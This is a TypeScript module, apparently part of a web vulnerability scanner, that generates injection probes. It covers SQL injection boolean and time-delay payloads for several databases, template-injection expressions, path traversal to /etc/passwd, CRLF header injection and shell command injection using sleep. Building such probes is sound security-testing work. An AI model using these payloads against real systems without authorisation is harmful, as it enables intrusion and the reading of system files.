import type { InjectedInput } from '../details.ts';

/** Ends a text in quotes of any kind, or leaves its end open. */
export const ODD = `'"\`\\`;
/** The same quotes doubled, which is how most languages write one inside a text. */
export const EVEN = `''""\`\`\\\\`;

/** A true and a false condition of the same words, so that a search over words takes them for the same. */
export function conditions(
  sort: InjectedInput['sort'],
  value: string,
  [a, b]: readonly [string, string],
): { readonly holds: string; readonly fails: string } {
  switch (sort) {
    case 'text':
      // `LIKE` at the end, because a search may add a wildcard behind the value.
      return {
        holds: `${value}' AND '${a}'='${a}' AND '${b}' LIKE '${b}`,
        fails: `${value}' AND '${a}'='${b}' AND '${b}' LIKE '${a}`,
      };
    case 'number':
      return plainConditions(value, [a, b]);
    case 'order':
      // Two rows where one value belongs, or a number that is too large, break every query that evaluates them.
      return {
        holds: `(CASE WHEN ${a}=${a} AND ${b}=${b} THEN ${value} ELSE ${BROKEN} END)`,
        fails: `(CASE WHEN ${a}=${b} AND ${b}=${a} THEN ${value} ELSE ${BROKEN} END)`,
      };
  }
}

const BROKEN = 'abs(-9223372036854775807-1)+(SELECT 1 UNION SELECT 2)';

/** The same without quotes: a condition where a number belongs, plain words everywhere else. */
export function plainConditions(
  value: string,
  [a, b]: readonly [string, string],
): { readonly holds: string; readonly fails: string } {
  return { holds: `${value} AND ${a}=${a} AND ${b}=${b}`, fails: `${value} AND ${a}=${b} AND ${b}=${a}` };
}

/** An expression in the languages that most templates use. */
export function expressions([a, b]: readonly [number, number]): readonly string[] {
  return [`{{${a}*${b}}}`, `\${${a}*${b}}`, `<%= ${a}*${b} %>`, `#{${a}*${b}}`];
}

/** Paths out of any folder to a file that every Unix system has and everybody may read. */
export const PATHS = [
  '../../../../../../../../../../etc/passwd',
  '....//....//....//....//....//....//....//....//etc/passwd',
] as const;

/** A value with a line break that would add a header. */
export function withHeader(value: string, header: string): string {
  return `${value}\r\n${header}: 1`;
}

/** Delays that only read and wait, for the usual databases and for a shell. */
export function delays(value: string, seconds: number): readonly string[] {
  return [
    `${value}'||(SELECT 1 FROM pg_sleep(${seconds}))||'`,
    `${value}' AND SLEEP(${seconds}) AND '1' LIKE '1`,
    `${value}'; WAITFOR DELAY '0:0:${seconds}'-- `,
    `${value};sleep ${seconds};$(sleep ${seconds})`,
  ];
}
